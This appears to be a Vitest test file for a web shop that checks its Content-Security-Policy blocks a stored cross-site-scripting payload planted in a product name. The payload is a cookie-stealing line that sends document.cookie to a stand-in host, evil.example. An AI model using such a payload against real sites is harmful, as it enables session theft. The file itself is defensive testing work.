import { createHash } from 'node:crypto';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { products } from '#shop/catalog/tables.ts';
import { openTestShop, type TestShop } from '#tests/support/open-test-shop.ts';
import { plainPages } from '#tests/support/plain-pages.ts';
import { requestContext } from '#web/frame/request-context.server.ts';

const EVIL = 'fetch("https://evil.example/" + document.cookie)';
const OWN = 'startTheShop()';
const hashOf = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`;

/** Pages whose data stand in them as they are, `<` and all: the mistake that the policy is there for. */
function unescapedPages() {
  const pages = plainPages();
  const { module } = pages.entry;
  module.default = (_request, status, headers, { staticHandlerContext: { loaderData } }, context) => {
    headers.set('Content-Type', 'text/html; charset=utf-8');
    const { scriptNonce } = context.get(requestContext);
    const written = JSON.stringify(loaderData).replaceAll('\\"', '"');
    return new Response(`<script nonce="${scriptNonce}">${OWN}</script><p>${written}</p>`, { status, headers });
  };
  return pages;
}

let open: TestShop;
let productId: number;
beforeAll(async () => {
  open = await openTestShop({ pages: unescapedPages() });
  ({ productId } = (await open.seedSmallCatalogue()).scarf);
  await open.shop.db.update(products).set({ nameEn: `Scarf <script>${EVIL}</script>` });
});
afterAll(() => open.close());

const policyOf = (value: unknown) => /script-src ([^;]*)/.exec(String(value))?.[1]?.split(' ');

test.each(['kept for everybody', 'made for a person'])(
  'a script that got into a page %s is not allowed',
  async (kind) => {
    const { headers } = await open.asCustomer();
    const asked = { url: `/articles/detail?rt=${productId}`, ...(kind === 'made for a person' && { headers }) };
    for (const answer of [await open.app.inject(asked), await open.app.inject(asked)]) {
      expect(answer.body).toContain(`<script>${EVIL}</script>`);
      expect(answer.headers['content-security-policy']).not.toContain(hashOf(EVIL));
      expect(answer.body).toContain(`<script>${OWN}</script>`);
      expect(policyOf(answer.headers['content-security-policy'])).toEqual(["'self'", hashOf(OWN)]);
    }
  },
);

test('each rendering has another nonce, and no answer shows it', async () => {
  const { headers } = await open.asCustomer();
  const { body } = await open.app.inject({ url: `/articles/detail?rt=${productId}`, headers });
  expect(body).not.toContain('nonce');
});
